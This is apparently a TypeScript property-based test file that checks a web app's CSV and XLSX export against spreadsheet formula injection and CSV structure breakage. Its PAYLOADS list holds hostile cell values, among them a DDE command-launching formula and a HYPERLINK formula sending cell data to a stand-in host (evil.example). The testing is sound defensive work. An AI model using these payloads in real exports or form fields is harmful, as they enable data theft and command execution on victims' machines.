import { parse as csvParse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { BOM, csvRecord, csvStream, neutralizeCell } from "@/lib/export/csv";
import { xlsxCell, xlsxStream } from "@/lib/export/xlsx";
import { parseRfc4180, Rfc4180Error } from "../../../support/rfc4180";

// Formula injection (CWE-1236) and CSV structure, as properties over hostile strings: whatever a participant
// types into a name, an answer or a utm parameter, every cell of the export parses back (through a strict
// RFC 4180 reader) to exactly the neutralised value, the table keeps its shape, and no cell is left that a
// spreadsheet would read as a formula. The insights CSV (app/api/admin/insights/export) is written by the
// same csvRecord, so these properties are its properties too. Control cases: a writer without the
// neutraliser, and one without quoting, must fail the same properties.

const RUNS = process.env.TEST_LONG === "1" ? 2000 : 150;

/**
 * What a spreadsheet reads as a formula, conservatively: after any blanks, controls and invisible format
 * characters (which an import option or a cleanup step may strip), the cell starts with a trigger, half- or
 * full-width. The apostrophe the neutraliser adds is none of those, so a neutralised cell is text.
 */
const readsAsFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell);

// Characters that matter to the CSV grammar, to spreadsheets, or to decoders, mixed with ordinary text.
const TRICKY = [
  "=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n", "\r\n", '"', ",", ";", "'", "|", "!", " ", "\u3000",
  "\uFEFF", "\u0000", "\u200B", "\u2028", "\u202E", "a", "Z", "1", "0", "大", "垣", "ー", "(", ")", "A1", "cmd", "SUM",
];
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+81-90-1234-5678",
  "-2+3",
  "＝1+1",
  "\t=1+1",
  "\r\n=1+1",
  " =1+1",
  "\u3000＝1",
  "\uFEFF=1",
  "\u0000=1",
  "\u200B@SUM(A1)",
  "=1\r\n=2,=3",
];
// Not formulas (they start with a quote or a letter), but they test the quoting.
const STRUCTURAL = ['"=1",=2', 'a","=1', "x\r\n=1,\"=2\""];

const tricky = fc.string({ unit: fc.constantFrom(...TRICKY), maxLength: 12 });
const hostile: fc.Arbitrary<string> = fc.oneof(
  tricky,
  fc.tuple(fc.constantFrom(...PAYLOADS, ...STRUCTURAL), tricky).map(([a, b]) => a + b),
  fc.tuple(tricky, fc.constantFrom(...PAYLOADS, ...STRUCTURAL)).map(([a, b]) => a + b),
  fc.string({ unit: "binary", maxLength: 20 }),
  fc.string({ unit: "binary-ascii", maxLength: 20 }),
);

/** A table: a header and rows of one width. */
const table = fc
  .integer({ min: 1, max: 6 })
  .chain((width) =>
    fc.tuple(
      fc.array(hostile, { minLength: width, maxLength: width }),
      fc.array(fc.array(hostile, { minLength: width, maxLength: width }), { maxLength: 8 }),
    ),
  );

type Writer = (row: readonly string[]) => string;

/** The file as the route sends it: BOM, header, rows, every record CRLF-terminated. */
const file = (write: Writer, header: readonly string[], rows: readonly string[][]) => BOM + write(header) + rows.map(write).join("");

/** The property every export must hold, for one writer (`expectCell`: what each value should read back as). */
function holds(write: Writer, header: string[], rows: string[][], expectCell: (value: string) => string = neutralizeCell) {
  const records = parseRfc4180(file(write, header, rows), { bom: true });
  expect(records).toHaveLength(rows.length + 1);
  for (const [i, original] of [header, ...rows].entries()) {
    const record = records[i]!;
    expect(record).toHaveLength(original.length);
    for (const [j, cell] of record.entries()) {
      expect(cell).toBe(expectCell(original[j]!));
      expect(readsAsFormula(cell), JSON.stringify(cell)).toBe(false);
    }
  }
}

// Controls: the same quoting without the neutraliser, and the neutraliser without quoting.
const quoteOnly = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
const unneutralised: Writer = (row) => `${row.map(quoteOnly).join(",")}\r\n`;
const unquoted: Writer = (row) => `${row.map(neutralizeCell).join(",")}\r\n`;

describe("neutralizeCell", () => {
  it("keeps the value: the result is the original, or the original behind one apostrophe", () => {
    fc.assert(
      fc.property(hostile, (value) => {
        const out = neutralizeCell(value);
        expect(out === value || out === `'${value}`).toBe(true);
        expect(readsAsFormula(out)).toBe(false);
      }),
      { numRuns: RUNS * 4 },
    );
  });

  it.each(PAYLOADS)("neutralises %j", (payload) => {
    expect(neutralizeCell(payload)).toBe(`'${payload}`);
  });
});

describe("CSV export (csvRecord, as the registration and insights exports write it)", () => {
  it("round-trips every hostile table through a strict RFC 4180 parser, shape intact and no formula left", () => {
    fc.assert(
      fc.property(table, ([header, rows]) => holds(csvRecord, header, rows)),
      { numRuns: RUNS },
    );
  });

  it("reads the same through csv-parse as through the strict parser", () => {
    fc.assert(
      fc.property(table, ([header, rows]) => {
        const text = file(csvRecord, header, rows);
        const strict = parseRfc4180(text, { bom: true });
        // csv-parse treats a record that is one empty field as an empty line, inconsistently at the start.
        fc.pre(!strict.some((r) => r.length === 1 && r[0] === ""));
        const lenient = csvParse(text, { bom: true, relax_column_count: false, record_delimiter: "\r\n" }) as string[][];
        expect(lenient).toEqual(strict);
      }),
      { numRuns: RUNS },
    );
  });

  it("survives the byte stream: UTF-8 with BOM, batches joined, decoded again", async () => {
    // Well-formed strings only: a lone surrogate cannot be stored in PostgreSQL nor encoded as UTF-8.
    await fc.assert(
      fc.asyncProperty(table, fc.integer({ min: 1, max: 3 }), async ([header, rows], size) => {
        async function* batches() {
          for (let i = 0; i < rows.length; i += size) yield rows.slice(i, i + size);
        }
        const bytes = new Uint8Array(await new Response(csvStream(header, batches())).arrayBuffer());
        expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
        const text = new TextDecoder("utf-8", { ignoreBOM: true, fatal: true }).decode(bytes);
        expect(text).toBe(file(csvRecord, header, rows));
      }),
      { numRuns: Math.ceil(RUNS / 3) },
    );
  });

  it("control: without the neutraliser the property fails (a formula survives)", () => {
    const result = fc.check(
      // Structure and values as written: only the formula check can fail.
      fc.property(table, ([header, rows]) => holds(unneutralised, header, rows, (value) => value)),
      { numRuns: RUNS * 4 },
    );
    expect(result.failed).toBe(true);
  });

  it("control: without quoting the strict parser refuses the file or the shape breaks", () => {
    const result = fc.check(
      fc.property(table, ([header, rows]) => holds(unquoted, header, rows)),
      { numRuns: RUNS * 4 },
    );
    expect(result.failed).toBe(true);
  });

  it("the strict parser refuses what a lenient one would repair", () => {
    for (const bad of ['a,b"c\r\n', '"a"b\r\n', '"unterminated\r\n', "a\rb\r\n", "a\nb\r\n", "a,b\r\nc\r\n"]) {
      expect(() => parseRfc4180(bad), JSON.stringify(bad)).toThrow(Rfc4180Error);
    }
    expect(parseRfc4180('"a""b",",",""\r\n\r\n', { sameFieldCount: false })).toEqual([['a"b', ",", ""], [""]]);
  });
});

describe("XLSX export", () => {
  async function roundTrip(header: string[], rows: string[][]) {
    async function* batches() {
      yield rows;
    }
    const bytes = Buffer.from(await new Response(xlsxStream({ sheetName: "s", header, batches: batches() })).arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    // Throws on XML a spreadsheet could not open (saxes is a conforming XML 1.0 parser).
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const read: (string | null)[][] = [];
    sheet.eachRow({ includeEmpty: true }, (row) => {
      const values: (string | null)[] = [];
      for (let c = 1; c <= header.length; c += 1) {
        const cell = row.getCell(c);
        // A formula cell would come back as an object ({ formula }) or with the formula type.
        expect(cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.Null, JSON.stringify(cell.value)).toBe(true);
        values.push(cell.value === null ? null : String(cell.value));
      }
      read.push(values);
    });
    return read;
  }

  it("writes every hostile value as a text cell (never a formula) the workbook can be opened with, as typed", async () => {
    await fc.assert(
      fc.asyncProperty(table, async ([header, rows]) => {
        // roundTrip checks that every cell comes back as a text cell, not a formula.
        const read = await roundTrip(header, rows);
        // XML reads CRLF and a lone CR as LF (XML 1.0 §2.11), and cannot carry some controls (dropped).
        const expected = [header, ...rows].map((r) => r.map((v) => xlsxCell(v)?.replace(/\r\n?/g, "\n") ?? null));
        // eachRow skips trailing rows that are entirely empty.
        const width = header.length;
        while (read.length < expected.length) read.push(Array<string | null>(width).fill(null));
        expect(read).toEqual(expected);
      }),
      { numRuns: Math.ceil(RUNS / 5) },
    );
  });

  it("shows formula-like text as typed: a text cell needs no apostrophe (the CSV's guard would be visible)", async () => {
    const typed = ['=HYPERLINK("http://evil.example","click")', "@SUM(A1)", "+81-90-1234-5678", "-2+3", "＝1+1", "普通の回答"];
    const read = await roundTrip(["回答"], typed.map((v) => [v]));
    expect(read).toEqual([["回答"], ...typed.map((v) => [v])]);
    // The CSV of the same values keeps its guard.
    for (const v of typed.slice(0, 5)) expect(neutralizeCell(v)).toBe(`'${v}`);
  });

  it("a noncharacter typed into a form no longer breaks the whole workbook", async () => {
    const read = await roundTrip(["名前"], [["大垣\uFFFE太郎"], ["\uFFFF=1+1"], ["\u0000@SUM(A1)"]]);
    expect(read).toEqual([["名前"], ["大垣太郎"], ["=1+1"], ["@SUM(A1)"]]);
  });
});
